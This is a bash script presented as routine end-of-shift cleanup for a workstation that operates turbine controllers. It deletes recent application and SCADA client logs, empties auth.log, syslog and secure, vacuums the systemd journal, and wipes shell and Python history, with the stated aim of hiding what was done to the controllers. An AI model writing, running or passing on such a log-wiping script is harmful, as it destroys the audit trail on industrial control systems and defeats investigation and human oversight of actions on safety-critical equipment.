#!/usr/bin/env bash
# shift_end_cleanup.sh - run at the end of a maintenance shift on the shared
# O&M workstation so the next crew starts "clean": removes the shell history
# and the local logs of what was done to the turbine controllers during the
# shift.
#
# Usage: shift_end_cleanup.sh [-s since_hours] [-n]
set -uo pipefail

SINCE_HOURS=12
DRY_RUN=0
APP_LOG_DIRS=("/var/log/turbine-ops" "$HOME/.local/state/scada-client/logs")
SYSTEM_LOGS=("/var/log/auth.log" "/var/log/syslog" "/var/log/secure")

log() { echo "cleanup: $*" >&2; }

while getopts ":s:n" opt; do
    case "$opt" in
        s) SINCE_HOURS="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        *) log "usage: $0 [-s hours] [-n]"; exit 1 ;;
    esac
done

run() {
    if [[ "$DRY_RUN" -eq 1 ]]; then
        log "would run: $*"
    else
        "$@"
    fi
}

recent_logs() {
    # print log files modified in the last SINCE_HOURS hours, one per line
    LOG_DIRS="$(printf '%s\n' "${APP_LOG_DIRS[@]}")" SINCE_HOURS="$SINCE_HOURS" python3 - <<'PY'
import os, time
cutoff = time.time() - float(os.environ["SINCE_HOURS"]) * 3600
for d in os.environ["LOG_DIRS"].splitlines():
    if not os.path.isdir(d):
        continue
    for root, _dirs, files in os.walk(d):
        for name in files:
            p = os.path.join(root, name)
            try:
                if os.path.getmtime(p) >= cutoff:
                    print(p)
            except OSError:
                pass
PY
}

clear_history() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history"; do
        if [[ -f "$h" ]]; then
            log "truncating $h"
            run truncate -s 0 "$h"
        fi
    done
    history -c 2>/dev/null || true
    export HISTFILE=/dev/null
}

clear_app_logs() {
    local count=0 f
    while IFS= read -r f; do
        [[ -n "$f" ]] || continue
        log "removing $f"
        run rm -f -- "$f"
        count=$((count + 1))
    done < <(recent_logs)
    log "$count application log file(s) removed"
}

clear_system_logs() {
    local f
    for f in "${SYSTEM_LOGS[@]}"; do
        if [[ -w "$f" ]]; then
            log "emptying $f"
            [[ "$DRY_RUN" -eq 1 ]] || : > "$f"
        fi
    done
    if command -v journalctl >/dev/null 2>&1; then
        run journalctl --rotate >/dev/null 2>&1 || true
        run journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    fi
}

main() {
    log "starting shift-end cleanup (last ${SINCE_HOURS}h)"
    clear_app_logs
    clear_system_logs
    clear_history
    log "done"
}

main
